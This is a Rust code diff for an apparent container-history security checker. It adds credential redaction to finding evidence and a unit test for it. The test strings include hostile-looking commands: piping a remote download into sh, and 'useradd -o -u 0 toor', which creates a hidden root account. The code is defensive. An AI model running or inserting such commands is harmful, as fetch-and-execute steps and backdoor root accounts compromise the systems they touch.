@@ -56,6 +56,31 @@ static PAIR: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r#"([A-Za-z_][A-Za-z0-9_]*)=("[^"]*"|'[^']*'|\S*)"#).expect("static regex")
 });
 
+/// Credentials a matched command may carry: URL user info, header and user options.
+static CREDENTIALS: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(concat!(
+        r#"(?P<url>://[^/\s:@]+:)[^@\s]+@"#,
+        r#"|(?P<opt>(?:-H|--header|--password|--http-password|--proxy-password)[\s=]+)(?:"[^"]*"|'[^']*'|\S+)"#,
+        r#"|(?P<user>\s(?:-u|--user)[\s=]+[^\s:]+:)\S+"#,
+    ))
+        .expect("static regex")
+});
+
+/// The matched text with credentials masked, so evidence never carries a secret.
+fn redact(text: &str) -> String {
+    CREDENTIALS
+        .replace_all(text, |c: &regex::Captures<'_>| {
+            if let Some(u) = c.name("url") {
+                format!("{}****@", u.as_str())
+            } else if let Some(u) = c.name("user") {
+                format!("{}****", u.as_str())
+            } else {
+                format!("{}<redacted>", &c["opt"])
+            }
+        })
+        .into_owned()
+}
+
 /// Evidence is cut to this many bytes.
 const MAX_EVIDENCE: usize = 160;
 
@@ -89,7 +114,7 @@ impl Checker for HistoryChecker {
                     let mut f = rule.text.finding(FindingKind::History);
                     f.layer = layer.clone();
                     f.description = format!("{} (history step {}.)", f.description, step + 1);
-                    f.evidence = Some(clip(m.as_str(), MAX_EVIDENCE));
+                    f.evidence = Some(clip(&redact(m.as_str()), MAX_EVIDENCE));
                     out.push(f);
                 }
             }
@@ -389,6 +414,27 @@ mod tests {
                     "GITHUB_TOKEN=<redacted>".into()
                 ),
             ]
+        );
+    }
+
+    #[test]
+    fn evidence_masks_credentials() {
+        assert_eq!(
+            redact("curl -H 'Authorization: token abc' https://u:pw@example.invalid/i | sh"),
+            "curl -H <redacted> https://u:****@example.invalid/i | sh"
+        );
+        assert_eq!(
+            redact("wget --user=bob --password=x https://example.invalid/"),
+            "wget --user=bob --password=<redacted> https://example.invalid/"
+        );
+        assert_eq!(
+            redact("curl -u bob:pw https://example.invalid/ | sh"),
+            "curl -u bob:**** https://example.invalid/ | sh"
+        );
+        assert_eq!(redact("useradd -o -u 0 toor"), "useradd -o -u 0 toor");
+        assert_eq!(
+            redact("curl -fsSL https://example.invalid/x | sh"),
+            "curl -fsSL https://example.invalid/x | sh"
         );
     }
 
